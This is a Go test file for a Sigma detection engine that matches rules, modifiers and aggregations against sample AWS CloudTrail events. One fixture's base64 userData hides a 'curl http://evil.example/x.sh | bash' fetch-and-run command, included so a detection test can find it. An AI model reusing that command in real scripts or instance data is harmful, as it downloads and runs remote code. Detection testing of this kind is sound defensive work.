package engine

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/rule"
	"github.com/tripline/tripline/internal/testutil"
)

// sigmaEvents are CloudTrail records the Sigma cases below pick from by
// eventID.
var sigmaEvents = []string{
	`{"eventVersion":"1.09","eventTime":"2026-11-21T10:00:00Z","eventSource":"s3.amazonaws.com","eventName":"DeleteBucket","awsRegion":"eu-west-1","sourceIPAddress":"203.0.113.9","userAgent":"aws-cli/2.15 Python/3.11","eventID":"del","userIdentity":{"type":"IAMUser","userName":"Alice","arn":"arn:aws:iam::123456789012:user/Alice"},"requestParameters":{"bucketName":"prod-logs"}}`,
	`{"eventVersion":"1.09","eventTime":"2026-11-21T10:01:00Z","eventSource":"s3.amazonaws.com","eventName":"PutBucketPolicy","awsRegion":"eu-west-1","sourceIPAddress":"10.1.2.3","userAgent":"Boto3/1.34","eventID":"put","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::123456789012:assumed-role/aws:ec2-instance/i-0abc"},"requestParameters":{"bucketName":"prod-logs","policy":"{\"Statement\":[{\"Principal\":\"*\"}]}"}}`,
	`{"eventVersion":"1.09","eventTime":"2026-11-21T10:02:00Z","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","awsRegion":"us-east-1","sourceIPAddress":"ec2.amazonaws.com","userAgent":"ec2.amazonaws.com","eventID":"run","userIdentity":{"type":"AWSService"},"requestParameters":{"userData":"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNo","instanceType":"t3.large","maxCount":4},"errorCode":"Client.UnauthorizedOperation"}`,
	`{"eventVersion":"1.09","eventTime":"2026-11-21T10:03:00Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"TruffleHog","eventID":"key","userIdentity":{"type":"IAMUser","userName":"bob","arn":"arn:aws:iam::123456789012:user/bob"},"requestParameters":{"userName":"bob"}}`,
}

// Each case is a Sigma detection over sigmaEvents and the eventIDs it
// must match, by the Sigma specification (version 2, "Sigma Rules
// Specification", sections named per case).
var sigmaCases = []struct {
	name, detection string
	want            []string
}{
	// Detection: values match whole, without case.
	{"plain value, any case", "sel: {eventName: deletebucket}\n  condition: sel", []string{"del"}},
	{"list is OR", "sel:\n    eventName: [DeleteBucket, CreateAccessKey]\n  condition: sel", []string{"del", "key"}},
	{"map is AND", "sel:\n    eventSource: s3.amazonaws.com\n    userIdentity.type: IAMUser\n  condition: sel", []string{"del"}},
	{"list of maps is OR", "sel:\n    - eventName: RunInstances\n    - userAgent: trufflehog\n  condition: sel", []string{"run", "key"}},
	// Wildcards: * any run, ? one character, \ escapes.
	{"wildcards", "sel: {eventName: 'Put?ucket*'}\n  condition: sel", []string{"put"}},
	{"escaped star is literal", `sel: {requestParameters.policy: '*"Principal":"\*"*'}` + "\n  condition: sel", []string{"put"}},
	// Value modifiers.
	{"contains", "sel: {userAgent|contains: PYTHON}\n  condition: sel", []string{"del"}},
	{"startswith", "sel: {userIdentity.arn|startswith: 'arn:aws:sts::'}\n  condition: sel", []string{"put"}},
	{"endswith", "sel: {eventName|endswith: Key}\n  condition: sel", []string{"key"}},
	{"all", "sel: {userAgent|contains|all: [aws-cli, python]}\n  condition: sel", []string{"del"}},
	{"cased", "sel: {userIdentity.userName|cased: alice}\n  condition: sel", nil},
	{"cased matches exact case", "sel: {userIdentity.userName|cased: Alice}\n  condition: sel", []string{"del"}},
	{"re is unanchored and cased", "sel: {userIdentity.arn|re: 'assumed-role/aws:.+'}\n  condition: sel", []string{"put"}},
	{"re with i", "sel: {eventName|re|i: '^deleteb'}\n  condition: sel", []string{"del"}},
	{"cidr", "sel: {sourceIPAddress|cidr: 10.0.0.0/8}\n  condition: sel", []string{"put"}},
	{"base64offset|contains", "sel: {requestParameters.userData|base64offset|contains: 'curl http'}\n  condition: sel", []string{"run"}},
	{"base64 whole", "sel: {requestParameters.userData|base64|contains: 'IyEv'}\n  condition: sel", nil},
	{"exists true", "sel: {errorCode|exists: true}\n  condition: sel", []string{"run"}},
	{"exists false", "sel: {errorCode|exists: false}\n  condition: sel", []string{"del", "put", "key"}},
	{"gt", "sel: {requestParameters.maxCount|gt: 3}\n  condition: sel", []string{"run"}},
	{"lte", "sel: {requestParameters.maxCount|lte: 3}\n  condition: sel", nil},
	{"fieldref", "sel: {requestParameters.userName|fieldref: userIdentity.userName}\n  condition: sel", []string{"key"}},
	{"null", "sel:\n    eventSource: s3.amazonaws.com\n    userIdentity.userName: null\n  condition: sel", []string{"put"}},
	// Conditions.
	{"not", "sel: {eventSource: s3.amazonaws.com}\n  condition: not sel", []string{"run", "key"}},
	{"and not 1 of", "sel: {eventSource|endswith: .amazonaws.com}\n  filter_a: {eventName: RunInstances}\n  filter_b: {userAgent: TruffleHog}\n  condition: sel and not 1 of filter_*", []string{"del", "put"}},
	{"all of them", "a: {eventSource: s3.amazonaws.com}\n  b: {eventName|startswith: Put}\n  condition: all of them", []string{"put"}},
	{"1 of them", "a: {eventName: RunInstances}\n  b: {eventName: CreateAccessKey}\n  condition: 1 of them", []string{"run", "key"}},
	{"precedence: and before or", "a: {eventName: DeleteBucket}\n  b: {eventName: PutBucketPolicy}\n  c: {awsRegion: us-east-1}\n  condition: a or b and c", []string{"del"}},
	{"parentheses", "a: {eventName: DeleteBucket}\n  b: {eventName: PutBucketPolicy}\n  c: {awsRegion: eu-west-1}\n  condition: (a or b) and c", []string{"del", "put"}},
	{"list of conditions is OR", "a: {eventName: DeleteBucket}\n  b: {eventName: CreateAccessKey}\n  condition: [a, b]", []string{"del", "key"}},
	{"keywords", "kw: [trufflehog]\n  condition: kw", []string{"key"}},
}

func TestSigmaSemantics(t *testing.T) {
	data := filepath.Join(t.TempDir(), "events.json")
	if err := os.WriteFile(data, []byte(strings.Join(sigmaEvents, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, c := range sigmaCases {
		t.Run(c.name, func(t *testing.T) {
			doc := fmt.Sprintf("title: %q\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  %s\n", c.name, c.detection)
			r := &rule.Rule{ID: "sigma-case", Name: c.name, Language: rule.LangSigma, Query: doc,
				Interval: QuerySpec.Interval, LookBack: QuerySpec.LookBack}
			comp := Compile(r, nil)
			if comp.Err != nil {
				t.Fatalf("%s\n%s", ErrorDetail(comp.Err), doc)
			}
			rows, _, err := Query(context.Background(), comp, []string{data}, HuntOptions{Workers: 1})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, row := range rows {
				for i, col := range row.Columns {
					if col == "eventID" {
						got = append(got, row.Values[i].String())
					}
				}
			}
			slices.Sort(got)
			want := slices.Clone(c.want)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("matched %v, want %v\n%s", got, want, doc)
			}
		})
	}
}

// Mistakes are errors placed in the rule, with a caret.
func TestSigmaErrors(t *testing.T) {
	for _, c := range []struct{ detection, want string }{
		{"sel: {eventName: x}\n  condition: sel and nope", `7:22: no selection named "nope"`},
		{"sel: {eventName|frob: x}\n  condition: sel", `unknown value modifier "frob"`},
		{"sel: {eventName: x}\n  condition: sel | min(x) > 1", "the min aggregation is not run yet"},
		{"sel: {eventName: x}\n  condition: sel | count() > lots", "count is compared with a number"},
		{"sel: {eventName: x}\n  condition: (sel", "not closed"},
		{"sel: {eventName|re: '(['}\n  condition: sel", "bad regular expression"},
		{"sel: {eventName: x}\n  condition: 1 of zzz*", `"zzz*" names no selection`},
	} {
		doc := "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  " + c.detection + "\n"
		doc = "id: x\nstatus: test\n" + doc
		comp := Compile(&rule.Rule{ID: "e", Language: rule.LangSigma, Query: doc, Interval: QuerySpec.Interval, LookBack: QuerySpec.LookBack}, nil)
		if comp.Err == nil || !strings.Contains(ErrorDetail(comp.Err), c.want) {
			t.Errorf("%q: error %v, want %q", c.detection, comp.Err, c.want)
		}
	}
}

// Every SigmaHQ AWS rule in the corpus plans and runs; the old
// aggregation rules are skipped or refused with their reason.
func TestSigmaCorpus(t *testing.T) {
	dir := testutil.Shared(t, "corpus/sigma/aws")
	rs, probs := rule.Load([]string{dir})
	if len(probs) > 0 {
		t.Fatalf("corpus rules do not load: %v", probs)
	}
	if len(rs) < 50 {
		t.Fatalf("only %d Sigma rules in %s", len(rs), dir)
	}
	var compiled []*Compiled
	for _, r := range rs {
		c := Compile(r, nil)
		if !c.Runnable() {
			t.Errorf("%s (%s): %v", r.File, r.Name, c.Err)
			continue
		}
		compiled = append(compiled, c)
	}
	// They run over the real CloudTrail in ../shared/data and some fire.
	rep, err := Hunt(context.Background(), compiled, []string{testutil.Shared(t, "data/cloudtrail")}, HuntOptions{})
	if err != nil {
		t.Fatal(err)
	}
	fired := map[string]bool{}
	for _, a := range rep.Alerts {
		fired[a.Rule.ID] = true
		if len(a.Evidence) != 1 || a.EventCount != 1 {
			t.Errorf("%s: a Sigma alert is one event, got %d evidence for %d events", a.Rule.Name, len(a.Evidence), a.EventCount)
		}
	}
	if len(fired) < 5 {
		t.Errorf("only %d Sigma rules fired on the real CloudTrail data", len(fired))
	}
}

// The old aggregations read as the correlations they stand for (Sigma
// 1 "Aggregation expression"; Sigma 2 "Correlations": event_count,
// value_count): count() counts events, count(field) the distinct values of
// field, by a group.
func TestSigmaAggregations(t *testing.T) {
	data := filepath.Join(t.TempDir(), "events.json")
	if err := os.WriteFile(data, []byte(strings.Join(sigmaEvents, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ name, detection, want string }{
		{"count", "sel: {eventSource|endswith: amazonaws.com}\n  condition: sel | count() > 3", `{"count":4}`},
		{"count not reached", "sel: {eventSource|endswith: amazonaws.com}\n  condition: sel | count() > 4", ``},
		{"count by", "sel: {eventSource|endswith: amazonaws.com}\n  condition: sel | count() by awsRegion >= 2", `{"awsRegion":"eu-west-1","count":2} {"awsRegion":"us-east-1","count":2}`},
		{"count distinct", "sel: {eventSource|endswith: amazonaws.com}\n  condition: sel | count(eventSource) > 2", `{"count":3}`},
		// "near": every condition has an event in the timeframe (Sigma 2
		// "temporal" correlation, in any order).
		{"near", "a: {eventName: DeleteBucket}\n  b: {eventName: CreateAccessKey}\n  condition: a | near b", `{"near_0_events":1,"near_1_events":1}`},
		{"near missing one", "a: {eventName: DeleteBucket}\n  b: {eventName: DeleteTrail}\n  condition: a | near b", ``},
	} {
		t.Run(c.name, func(t *testing.T) {
			doc := fmt.Sprintf("title: %q\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  %s\n  timeframe: 1h\n", c.name, c.detection)
			comp := Compile(&rule.Rule{ID: "agg", Language: rule.LangSigma, Query: doc, Interval: QuerySpec.Interval, LookBack: QuerySpec.LookBack}, nil)
			if comp.Err != nil {
				t.Fatalf("%s\n%s", ErrorDetail(comp.Err), doc)
			}
			rows, _, err := Query(context.Background(), comp, []string{data}, HuntOptions{Workers: 1})
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(renderRows(rows), " "); got != c.want {
				t.Errorf("rows %s, want %s", got, c.want)
			}
		})
	}
}
